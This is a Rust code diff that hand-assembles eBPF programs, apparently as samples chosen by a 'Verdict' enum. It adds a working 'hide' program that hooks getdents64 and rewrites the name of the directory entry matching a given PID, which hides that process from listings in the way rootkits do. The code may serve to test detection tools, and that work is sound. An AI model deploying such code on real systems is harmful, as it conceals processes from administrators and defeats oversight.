@@ -21,9 +21,9 @@ pub(super) fn load(section: &str, verdict: Verdict) -> Ebpf {
     let start = object.append_section_data(code, &bytes(&instructions), 8);
     let length = object.section(code).data().len();
     add_symbol(&mut object, NAME, SymbolKind::Text, (start, length), code);
-    let of_map =
-        instructions.iter().zip(0_u64..).find(|(instruction, _)| instruction.0 == LOAD_MAP);
-    if let Some((_, place)) = of_map {
+    let loads = |(instruction, _): &(&Instruction, u64)| instruction.0 == LOAD_LONG;
+    let of_map = instructions.iter().zip(0_u64..).find(loads);
+    if let (Verdict::Steer(_), Some((_, place))) = (verdict, of_map) {
         let symbol = add_map(&mut object);
         let flags = RelocationFlags::Elf { r_type: elf::R_BPF_64_64 };
         let relocation = Relocation { offset: place * 8, symbol, addend: 0, flags };
@@ -94,6 +94,7 @@ fn instructions(verdict: Verdict) -> Vec<Instruction> {
             let redirect = redirect.into_iter().chain([EXIT]).collect();
             answer(port, (76, 80), redirect, end_with(-1))
         }
+        Verdict::Hide(pid) => hide(pid),
         Verdict::AnswerOnXdp(port) => answer(port, (0, 4), end_with(3).to_vec(), end_with(2)),
     }
 }
@@ -109,7 +110,7 @@ fn steer(port: u16) -> Vec<Instruction> {
         (0x62, 0x0a, -4, 0),
         (0xbf, 0xa2, 0, 0),
         (0x07, 0x02, 0, -4),
-        (LOAD_MAP, 0x01, 0, 0),
+        (LOAD_LONG, 0x01, 0, 0),
         (0, 0, 0, 0),
         (0x85, 0, 0, BPF_MAP_LOOKUP_ELEM),
         (0x15, 0x00, 7, 0),
@@ -161,6 +162,77 @@ fn answer(
     ours.into_iter().chain(turned).chain(otherwise).collect()
 }
 
+/// Goes through what a process is about to be told of a directory, and spoils the name of the entry that is
+/// called as the process: of `struct linux_dirent64` the length is at byte 16, the name at 19.
+fn hide(pid: u32) -> Vec<Instruction> {
+    let name = format!("{pid}\0");
+    let mut wanted = [0; 8];
+    wanted[..name.len()].copy_from_slice(name.as_bytes());
+    let mask = u64::MAX >> (64 - 8 * name.len());
+    let long = |register: u8, value: u64| {
+        let halves = [value, value >> 32].map(|half| {
+            let [a, b, c, d, ..] = half.to_le_bytes();
+            i32::from_le_bytes([a, b, c, d])
+        });
+        [(LOAD_LONG, register, 0, halves[0]), (0, 0, 0, halves[1])]
+    };
+    let [mask, wanted] = [long(1, mask), long(1, u64::from_le_bytes(wanted))];
+    let behind = |entries: usize, more: usize| {
+        i16::try_from(entries * ENTRY_INSTRUCTIONS + more).expect("jump as far as that")
+    };
+    // r6 = registers of the call, r7 = bytes; r6 = second argument: where they are.
+    let mut program = vec![
+        (0x79, 0x16, 0, 0),
+        (0x79, 0x17, 8, 0),
+        (0x79, 0x62, PT_REGS_ORIG_AX, 0),
+        (0x55, 0x02, behind(ENTRIES, 2 + SPOILING), GETDENTS64),
+        (0x79, 0x66, PT_REGS_SI, 0),
+    ];
+    for left in (0..ENTRIES).rev() {
+        // Behind the last entry: a jump to the end, what spoils a name, the end.
+        let spoil = |at: usize| behind(left, ENTRY_INSTRUCTIONS - 1 - at + 1);
+        let end = |at: usize| behind(left, ENTRY_INSTRUCTIONS - 1 - at + 1 + SPOILING);
+        program.extend([
+            (0xd5, 0x07, end(0), 0),
+            // The entry onto the stack, so that its name is aligned.
+            (0xbf, 0xa1, 0, 0),
+            (0x07, 0x01, 0, -35),
+            (0xb7, 0x02, 0, 27),
+            (0xbf, 0x63, 0, 0),
+            (0x85, 0, 0, BPF_PROBE_READ_USER),
+            (0x55, 0x00, end(6), 0),
+            (0x79, 0xa8, -16, 0),
+            mask[0],
+            mask[1],
+            (0x5f, 0x18, 0, 0),
+            wanted[0],
+            wanted[1],
+            (0x1d, 0x18, spoil(13), 0),
+            // r9 = length.
+            (0x71, 0xa9, -18, 0),
+            (0x67, 0x09, 0, 8),
+            (0x71, 0xa1, -19, 0),
+            (0x4f, 0x19, 0, 0),
+            (0x15, 0x09, end(18), 0),
+            (0x0f, 0x96, 0, 0),
+            (0x1f, 0x97, 0, 0),
+        ]);
+    }
+    // None of them: past what spoils.
+    program.push((0x05, 0, 7, 0));
+    program.extend([
+        (0x72, 0x0a, -8, i32::from(b'x')),
+        (0xbf, 0x61, 0, 0),
+        (0x07, 0x01, 0, 19),
+        (0xbf, 0xa2, 0, 0),
+        (0x07, 0x02, 0, -8),
+        (0xb7, 0x03, 0, 1),
+        (0x85, 0, 0, BPF_PROBE_WRITE_USER),
+    ]);
+    program.extend(end_with(0));
+    program
+}
+
 const fn end_with(value: i32) -> [Instruction; 2] {
     [(0xb7, 0x00, 0, value), EXIT]
 }
@@ -179,8 +251,8 @@ fn bytes(instructions: &[Instruction]) -> Vec<u8> {
 }
 
 const EXIT: Instruction = (0x95, 0, 0, 0);
-/// Loads a number of 64 bits, here the map, by two instructions.
-const LOAD_MAP: u8 = 0x18;
+/// Loads a number of 64 bits, or a map, by two instructions.
+const LOAD_LONG: u8 = 0x18;
 /// Widths of loads and stores, as they change the opcode of one of four bytes.
 const WORD: u8 = 0;
 const HALF: u8 = 0x08;
@@ -190,7 +262,18 @@ const DESTINATION_PORT: i16 = 14 + 20 + 2;
 const PORTS_END: i32 = 14 + 20 + 4;
 const DATAGRAM_BEGINS: i32 = 14 + 20 + 8;
 
+/// Entries of one call that are gone through, and instructions for each.
+const ENTRIES: usize = 800;
+const ENTRY_INSTRUCTIONS: usize = 21;
+const SPOILING: usize = 7;
+/// In `struct pt_regs` of x86-64 the second argument of a system call, and its number.
+const PT_REGS_SI: i16 = 104;
+const PT_REGS_ORIG_AX: i16 = 120;
+const GETDENTS64: i32 = 217;
+
 // include/uapi/linux/bpf.h.
+const BPF_PROBE_WRITE_USER: i32 = 36;
+const BPF_PROBE_READ_USER: i32 = 112;
 const BPF_MAP_TYPE_SOCKMAP: u32 = 15;
 const BPF_MAP_LOOKUP_ELEM: i32 = 1;
 const BPF_REDIRECT: i32 = 23;
